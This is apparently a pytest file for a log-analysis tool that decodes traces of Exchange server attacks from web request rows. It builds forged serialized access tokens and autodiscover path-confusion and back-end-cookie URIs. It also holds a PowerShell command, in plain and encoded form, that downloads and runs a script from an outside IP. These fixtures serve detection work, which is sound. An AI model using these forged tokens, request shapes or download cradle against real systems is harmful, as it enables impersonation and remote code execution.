"""What is hidden in rows: each vector is written here by encoding what was published of an attack."""

from __future__ import annotations

import base64
import gzip
from urllib.parse import quote, quote_from_bytes

import pytest

from tocsin.formats.syntax.decode_backend import (
    autodiscover_target,
    back_end,
    cookie_back_end,
    explicit_logon,
)
from tocsin.formats.syntax.decode_command import commands
from tocsin.formats.syntax.decode_row import hidden
from tocsin.formats.syntax.decode_token import access_token, security_context
from tocsin.formats.syntax.decode_url import foreign, percent

SID = "S-1-5-21-1111111111-222222222-3333333333-500"


def string(text: str) -> bytes:
    """As .NET's BinaryWriter writes it: the length, seven bits a byte, then UTF-8."""
    data, size, out = text.encode(), len(text.encode()), b""
    while size >= 0x80:
        out += bytes([size & 0x7F | 0x80])
        size >>= 7
    return out + bytes([size]) + data


def groups(mark: bytes, *sids: str) -> bytes:
    return (
        mark
        + len(sids).to_bytes(4, "little")
        + b"".join((7).to_bytes(4, "little") + string(sid) for sid in sids)
    )


def token(*, packed: bool = False, user: str = "alice@contoso.example") -> bytes:
    """A common access token as Exchange serialises it (V, T, C, A, L, U, G, E)."""
    body = b"A" + string("Basic") + b"L" + string(user) + b"U" + string(SID)
    body += groups(b"G", "S-1-1-0", "S-1-5-2") + b"E" + (0).to_bytes(4, "little")
    head = b"V\x01\x00T" + string("Windows") + b"C" + bytes([packed])
    return head + (gzip.compress(body) if packed else body)


@pytest.mark.parametrize("packed", [False, True])
def test_a_forged_token_says_whom_it_acts_as(*, packed: bool):
    text = base64.b64encode(token(packed=packed)).decode()
    found = access_token(text)
    assert found["user"] == "alice@contoso.example"
    assert found["sid"] == SID
    assert found["groups"] == "S-1-1-0 S-1-5-2"
    assert found["type"] == "Windows"
    assert access_token(quote(text, safe="")) == found


def test_of_a_cut_token_what_is_there_is_read():
    data = token(user="bob" * 60 + "@contoso.example")
    whole = base64.b64encode(data).decode()
    found = access_token(base64.b64encode(data[:290]).decode())
    assert found["user"].startswith("bobbob")
    assert found["sid"] == SID
    for size in range(0, len(whole), 3):
        access_token(whole[:size])


def test_a_token_of_another_kind_gives_its_pairs():
    body = b"E" + (1).to_bytes(4, "little") + string("MemberName") + string("bob@contoso.example")
    data = b"V\x01\x00T" + string("LiveIdBasic") + b"C\x00" + body
    found = access_token(base64.b64encode(data).decode())
    assert found["user"] == "bob@contoso.example"
    assert found["type"] == "LiveIdBasic"


def test_a_security_context_says_whom_it_acts_as():
    sid = b"S-1-5-18"
    data = b"SSAT\x01" + len(sid).to_bytes(4, "little") + sid
    group = b"S-1-5-32-544"
    data += (1).to_bytes(4, "little") + len(group).to_bytes(4, "little") + group + b"\7\0\0\0"
    data += (0).to_bytes(4, "little")
    text = base64.b64encode(gzip.compress(data)).decode()
    assert security_context(text) == {"sid": "S-1-5-18", "groups": "S-1-5-32-544"}


@pytest.mark.parametrize("text", ["", "VgEA", "====", "a" * 100, "V" * 64, "é" * 40])
def test_what_is_no_token_is_none(text: str):
    assert access_token(text) == {}
    assert security_context(text) == {}


def test_a_back_end_name_that_holds_a_path_is_a_target():
    found = back_end(
        "ServerInfo~a]@ex01.contoso.example:444/ecp/DDI/DDIService.svc/SetObject"
        "?msExchEcpCanary=AbC.&schema=ResetOABVirtualDirectory#"
    )
    assert found["host"] == "ex01.contoso.example"
    assert found["port"] == "444"
    assert found["path"] == "/ecp/DDI/DDIService.svc/SetObject"
    assert found["command"] == "SetObject"
    assert found["schema"] == "ResetOABVirtualDirectory"
    assert found["canary"] == "AbC."


@pytest.mark.parametrize(
    "name",
    [
        "ServerInfo~ex01.contoso.example",
        "Server~ex01.contoso.example~1941962753~2021-03-01T00:00:00",
        "ServerInfo~localhost~1942062522",
        "Database~fb7adba2-51f4-47e3-b170-fd39f85aaf35~~2021-03-01T00:00:00",
    ],
)
def test_a_plain_back_end_name_is_no_target(name: str):
    assert back_end(name) == {}


def test_the_cookie_of_the_back_end_is_found_among_others():
    found = cookie_back_end("a=b; X-BEResource=a]@ex01:444/mapi/emsmdb/?#~1941962753; c=d")
    assert found["target"] == "ex01:444/mapi/emsmdb/?"


@pytest.mark.parametrize(
    ("uri", "host", "path"),
    [
        (
            "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=x",
            "evil.example",
            "/mapi/nspi/",
        ),
        ("/Autodiscover/Autodiscover.JSON?a..foo.var/owa/?&Protocol=x", "foo.var", "/owa/"),
        ("/autodiscover/autodiscover.json/a@b.example/powershell", "b.example", "/powershell"),
        (
            "/autodiscover/owa/logon.aspx/autodiscover.json?..live.example/autodiscover/autodiscover.xml",
            "live.example",
            "/autodiscover/autodiscover.xml",
        ),
    ],
)
def test_where_autodiscover_was_led(uri: str, host: str, path: str):
    assert autodiscover_target(uri) == {"host": host, "path": path}


def test_a_plain_request_of_autodiscover_leads_nowhere():
    assert autodiscover_target("/autodiscover/autodiscover.json/v1.0/x?Protocol=ActiveSync") == {}
    assert autodiscover_target("/autodiscover/autodiscover.xml") == {}


def test_a_mailbox_in_the_path_is_an_explicit_logon():
    found = explicit_logon("/owa/alice@contoso.example/powershell")
    assert found == {"mailbox": "alice@contoso.example", "path": "/powershell"}
    assert explicit_logon("/owa/auth/logon.aspx?url=https://a@b") == {}


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("%61utodiscover.json", "autodiscover.json"),
        ("%2561utodiscover%252ejson", "autodiscover.json"),
        ("%u0061utodiscover%u002Ejson%3f%40", "autodiscover.json?@"),
        ("100%", "100%"),
        ("%E2%82%AC%ff", "€ÿ"),
        ("a%0d%0ab%00", "a b "),
        ("plain", "plain"),
    ],
)
def test_percent_encoding_is_taken_off(text: str, plain: str):
    assert percent(text) == plain


@pytest.mark.parametrize("page", ["cp037", "cp500", "cp1140", "cp273", "cp1026"])
def test_a_query_in_a_foreign_code_page_is_read(page: str):
    query = "Email=autodiscover/autodiscover.json?.foo.example&X-Rps-CAT=VgEAVAdXaW5kb3dz"
    sent = quote_from_bytes(query.encode(page))
    assert foreign(sent) == query
    misread = query.encode("ascii").decode(page)
    assert foreign(misread) == query
    assert foreign(quote(misread)) == query


@pytest.mark.parametrize(
    "query",
    [
        "Cmd=Options&User=contoso%5Calice&DeviceId=12345&DeviceType=Outlook",
        "q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82&s=1",
        "q=%E6%97%A5%E6%9C%AC%E8%AA%9E%E3%83%86%E3%82%B9%E3%83%88",
        "名前=値&x=テスト",
        "f=%7B%22a%22%3A%5B1%2C2%5D%7D",
        "",
    ],
)
def test_a_query_in_a_living_language_is_left_alone(query: str):
    assert foreign(query) == ""


COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"


def wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("switch", ["-enc ", "-e ", "-EncodedCommand ", "-ec+", "/enc:", "-enc+"])
def test_an_encoded_command_is_read(switch: str):
    assert COMMAND in commands("cmd=powershell+-nop+-w+hidden+" + switch + wide(COMMAND))


def test_commands_inside_packed_commands_are_read():
    inner = "powershell -e " + wide(COMMAND)
    packed = base64.b64encode(gzip.compress(inner.encode())).decode()
    found = commands(f"x=[Convert]::FromBase64String('{packed}')")
    assert found == [inner, COMMAND]


def test_what_decodes_to_no_text_is_no_command():
    assert commands("/owa/auth/Current/themes/resources/SomeVeryLongNameOfAPage.aspx") == []
    assert commands("canary=" + base64.b64encode(bytes(range(256))).decode()) == []


def test_a_row_tells_what_it_hides_under_its_own_names():
    text = base64.b64encode(token()).decode()
    fields = {
        "cs-uri-stem": "/autodiscover/autodiscover.json",
        "query": f"a%40evil.example/powershell/?X-Rps-CAT={quote(text, safe='')}",
        "X-Rps-CAT": quote(text, safe=""),
    }
    fields["cs-uri-query"] = fields["cs-uri-stem"] + "?" + fields["query"]
    found = hidden(fields, fields["cs-uri-query"])
    assert found["X-Rps-CAT.user"] == "alice@contoso.example"
    assert found["X-Rps-CAT.sid"] == SID
    assert found["autodiscover.host"] == "evil.example"
    assert found["autodiscover.path"] == "/powershell/"
    assert "a@evil.example/powershell" in found["cs-uri-query"]


def test_a_plain_row_hides_nothing():
    fields = {
        "cs-uri-stem": "/owa/",
        "cs-uri-query": "/owa/?&CorrelationID=<empty>;&cafeReqId=cde28fc4;&encoding=;",
        "query": "&CorrelationID=<empty>;&cafeReqId=cde28fc4;&encoding=;",
        "cs-user-agent": "Mozilla/5.0",
    }
    assert hidden(fields, " ".join(fields.values())) == {}


def test_a_mailbox_in_a_cookie_is_found():
    cookie = "a=b;+Email=autodiscover/autodiscover.json%3falice@contoso.example;+c=d"
    found = hidden({"cs-cookie": cookie}, cookie)
    assert found["Email.mailbox"] == "alice@contoso.example"


def test_a_request_in_a_foreign_code_page_leads_on():
    query = "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json"
    sent = quote_from_bytes(query.encode("cp500"))
    stem = "/autodiscover/autodiscover.json"
    found = hidden({"cs-uri-stem": stem, "query": sent, "cs-uri-query": f"{stem}?{sent}"}, sent)
    assert found["query.ebcdic"] == query
    assert found["autodiscover.host"] == "evil.example"
    assert query in found["cs-uri-query"].split("\n")[-1]
